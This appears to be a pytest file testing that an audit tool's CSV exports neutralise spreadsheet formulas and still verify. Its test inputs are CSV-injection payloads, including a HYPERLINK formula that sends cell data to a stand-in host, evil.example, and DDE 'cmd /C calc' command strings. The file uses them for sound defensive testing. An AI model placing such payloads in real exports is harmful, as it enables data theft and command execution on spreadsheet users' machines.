"""Exports neutralise spreadsheet formulas (OWASP's CSV injection advice) and stay RFC 4180
CSV that the verifier reads back exactly: a reason like `=HYPERLINK(...)` is text in a
spreadsheet, and `lemniscate audit --verify` still finds the export intact."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from temporalio.testing import WorkflowEnvironment

from lemniscate.audit.formats import render, spreadsheet
from lemniscate.audit.formats.csv_report import COLUMNS
from lemniscate.audit.portfolio import PortfolioLine, render_csv
from lemniscate.audit.report import build_report
from lemniscate.audit.verify import verify_file, verify_text
from lemniscate.examples import walks
from lemniscate.examples.walks import COORDINATOR as READER
from tests.support.servers import borrow, running_worker

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "'quoted already",
    'a "quoted", multi-line\nvalue',
]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_cells_are_neutralised_and_read_back_exactly() -> None:
    text = spreadsheet.write(["value"], [[value] for value in HOSTILE])
    rows = _cells(text)
    assert [row[0] for row in rows[1:]] == ["'" + value for value in HOSTILE[:-1]] + [HOSTILE[-1]]
    assert not any(row[0].startswith(spreadsheet.FORMULA_STARTS) for row in rows)
    assert [row["value"] for row in spreadsheet.read(text)[1]] == HOSTILE
    assert spreadsheet.neutralise("plain") == "plain" and spreadsheet.restore("plain") == "plain"


def test_the_portfolio_export_neutralises_names() -> None:
    line = PortfolioLine(
        id="c1",
        name="=cmd|'/C calc'!A0",
        status="running",
        state=None,
        round=None,
        side=None,
        programme="@programme",
        organisations=["-Org"],
        at_risk=False,
        started_at=datetime(2027, 1, 1, tzinfo=UTC),
        last_activity_at=None,
        founded_on=None,
        execution_started_on=None,
        closed_on=None,
        entries=None,
    )
    rows = _cells(render_csv([line]))
    assert all(not cell.startswith(spreadsheet.FORMULA_STARTS) for row in rows for cell in row)
    assert "'=cmd|'/C calc'!A0" in rows[1] and "'@programme" in rows[1] and "'-Org" in rows[1]


async def test_an_audit_csv_with_formulas_is_inert_and_still_verifies(
    dev_server: WorkflowEnvironment, tmp_path: Path
) -> None:
    slug = "csv-injection"
    async with borrow(dev_server) as env, running_worker(env.client) as service:
        await service.start(walks.taskforce_start(slug), walks.COORDINATOR, reason=HOSTILE[0])
        for value in HOSTILE[1:4]:
            await service.fire(slug, "record_intent", {"intent": value}, walks.COORDINATOR, reason=value)
        report = await build_report(service, slug, READER, refusal_log=tmp_path / "none.jsonl")
    text = render(report, "csv")
    rows = _cells(text)
    assert tuple(rows[0]) == COLUMNS
    assert all(not cell.startswith(spreadsheet.FORMULA_STARTS) for row in rows for cell in row)
    reasons = [row[COLUMNS.index("reason")] for row in rows[1:5]]
    assert reasons == ["'" + value for value in HOSTILE[:4]]
    verified = verify_text(text)
    assert verified.problems == [] and verified.entries == 4
    exported = tmp_path / "trail.csv"
    exported.write_text(text, "utf-8")
    assert verify_file(exported).problems == []
    # Tampering with a neutralised cell is still caught.
    tampered = text.replace("'-2+3", "'-2+4", 1)
    assert tampered != text and verify_text(tampered).problems


@pytest.mark.parametrize("value", HOSTILE)
def test_every_hostile_value_round_trips(value: str) -> None:
    assert spreadsheet.restore(spreadsheet.neutralise(value)) == value
